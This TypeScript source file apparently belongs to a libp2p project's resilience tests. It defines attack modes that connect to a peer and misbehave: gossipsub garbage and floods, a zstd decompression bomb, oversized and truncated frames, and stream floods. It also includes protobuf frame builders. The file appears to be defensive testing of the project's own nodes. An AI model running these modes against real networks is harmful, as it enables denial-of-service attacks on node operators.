// What an attacker says once it is connected: each mode is one way to speak libp2p badly. An attacker needs no key of the network
// and none of our code: it is a libp2p node with transport, noise and muxer, and then writes what it likes.
import { randomBytes } from 'node:crypto';
import type { Connection, Stream } from '@libp2p/interface';

const MIB = 1024 * 1024;
const GOSSIP = '/meshsub/1.2.0';

/** One way to misbehave; `stop` ends it. `given` are messages that somebody else made, for the mode that says them. */
export type AttackMode = (
  connection: Connection,
  topics: readonly string[],
  stop: AbortSignal,
  given: readonly Uint8Array[],
) => Promise<void>;

/** All modes by name. */
export const ATTACK_MODES: Readonly<Record<string, AttackMode>> = {
  /** Random bytes on the gossip protocol. */
  'gossip-random': async (connection, _topics, stop) => {
    const stream = await connection.newStream(GOSSIP, { signal: stop });
    while (!stop.aborted) await write(stream, randomBytes(4_096), stop);
  },
  /** A gossip frame whose length is right and whose content is random. */
  'gossip-garbage-frames': async (connection, _topics, stop) => {
    const stream = await connection.newStream(GOSSIP, { signal: stop });
    while (!stop.aborted) await write(stream, prefixed(randomBytes(1_000)), stop);
  },
  /** Well-formed gossip with random data on each topic: only a handler can tell. */
  'gossip-garbage-messages': async (connection, topics, stop) => {
    const stream = await connection.newStream(GOSSIP, { signal: stop });
    while (!stop.aborted) for (const topic of topics) await write(stream, publishFrame(topic, [randomBytes(300)]), stop);
  },
  /** Well-formed messages on topics that nobody follows. */
  'gossip-unknown-topics': async (connection, _topics, stop) => {
    const stream = await connection.newStream(GOSSIP, { signal: stop });
    for (let count = 0; !stop.aborted; count++) {
      const topic = `/coppice/attack/${count}`;
      await write(stream, prefixed(field(1, Buffer.concat([Uint8Array.of(0x08, 1), field(2, Buffer.from(topic))]))), stop);
      await write(stream, publishFrame(topic, [randomBytes(100)]), stop);
    }
  },
  /** A compressed message that would grow to gigabytes. */
  'gossip-bombs': async (connection, topics, stop) => {
    const { zstdCompressSync } = await import('node:zlib');
    const stream = await connection.newStream(GOSSIP, { signal: stop });
    while (!stop.aborted) {
      const bomb = zstdCompressSync(Buffer.concat([Buffer.alloc(64 * MIB), randomBytes(8)]));
      for (const topic of topics) await write(stream, publishFrame(topic, [Buffer.concat([Uint8Array.of(1), bomb])]), stop);
    }
  },
  /** One frame far over the limit. */
  'gossip-oversized': async (connection, topics, stop) => {
    const stream = await connection.newStream(GOSSIP, { signal: stop });
    await write(stream, publishFrame(topics[0] ?? 'none', [randomBytes(16 * MIB)]), stop);
  },
  /** A frame that stops in the middle, again and again. */
  'gossip-truncated': async (connection, topics, stop) => {
    while (!stop.aborted) {
      const stream = await connection.newStream(GOSSIP, { signal: stop });
      const frame = publishFrame(topics[0] ?? 'none', [randomBytes(1_000)]);
      await write(stream, frame.subarray(0, 500), stop);
      stream.abort(new Error('cut'));
    }
  },
  /** As many well-formed messages as the wire carries. */
  'gossip-flood': async (connection, topics, stop) => {
    const stream = await connection.newStream(GOSSIP, { signal: stop });
    while (!stop.aborted) {
      const messages = Array.from({ length: 200 }, () => Buffer.concat([Uint8Array.of(0), randomBytes(250)]));
      for (const topic of topics) await write(stream, publishFrame(topic, messages), stop);
    }
  },
  /** Given messages on the first topic, all in one frame: whoever reads it has them all before it can throw the attacker out. */
  'gossip-given': async (connection, topics, stop, given) => {
    const stream = await connection.newStream(GOSSIP, { signal: stop });
    await write(stream, publishFrame(topics[0] ?? 'none', given), stop);
  },
  /** Streams opened and never used, or used badly, on the protocols given as topics. */
  'request-streams': async (connection, protocols, stop) => {
    while (!stop.aborted) {
      for (const protocol of protocols) {
        const stream = await connection.newStream(protocol, { signal: stop, maxOutboundStreams: 10_000 });
        stream.send(Uint8Array.of(0x80));
      }
    }
  },
  /** Streams opened as fast as they can be, on a protocol that every node speaks. */
  'stream-flood': async (connection, _topics, stop) => {
    const one = async () => {
      while (!stop.aborted) {
        const stream = await connection.newStream('/ipfs/ping/1.0.0', { signal: stop, maxOutboundStreams: 10_000 });
        stream.abort(new Error('next'));
      }
    };
    await Promise.all(Array.from({ length: 20 }, one));
  },
  /** Random bytes, oversized and cut frames on request protocols given as topics. */
  'request-garbage': async (connection, protocols, stop) => {
    const bodies = [() => randomBytes(100), () => Uint8Array.from([0xff, 0xff, 0xff, 0x7f]), () => Uint8Array.from([10, 0, 1])];
    for (let count = 0; !stop.aborted; count++) {
      for (const protocol of protocols) {
        const stream = await connection.newStream(protocol, { signal: stop });
        stream.send((bodies[count % bodies.length] as () => Uint8Array)());
        await stream.close({ signal: stop }).catch(() => undefined);
        await new Promise((resolve) => setTimeout(resolve, 5));
        if (stream.status === 'open') stream.abort(new Error('next'));
      }
    }
  },
};

/** A gossipsub frame that publishes messages on one topic. */
export function publishFrame(topic: string, messages: readonly Uint8Array[]): Uint8Array {
  const topicField = field(4, Buffer.from(topic));
  return prefixed(Buffer.concat(messages.map((data) => field(2, Buffer.concat([field(2, data), topicField])))));
}

/** A gossipsub frame that follows topics. */
export function subscribeFrame(topics: readonly string[]): Uint8Array {
  return prefixed(Buffer.concat(topics.map((topic) => field(1, Buffer.concat([Uint8Array.of(0x08, 1), field(2, Buffer.from(topic))])))));
}

async function write(stream: Stream, bytes: Uint8Array, stop: AbortSignal): Promise<void> {
  stop.throwIfAborted();
  stream.send(bytes);
  while (stream.writeBufferLength > MIB) {
    await new Promise((resolve) => setTimeout(resolve, 5));
    stop.throwIfAborted();
    if (stream.status !== 'open') throw new Error(`stream ${stream.status}`);
  }
  await new Promise((resolve) => setImmediate(resolve));
}

/** A protobuf field with a length. */
function field(number: number, bytes: Uint8Array): Uint8Array {
  return Buffer.concat([Uint8Array.of((number << 3) | 2), varint(bytes.length), bytes]);
}

function prefixed(bytes: Uint8Array): Uint8Array {
  return Buffer.concat([varint(bytes.length), bytes]);
}

function varint(value: number): Uint8Array {
  const bytes: number[] = [];
  for (let rest = value; ; rest = Math.floor(rest / 128)) {
    bytes.push(rest > 127 ? (rest % 128) | 128 : rest);
    if (rest <= 127) return Uint8Array.from(bytes);
  }
}
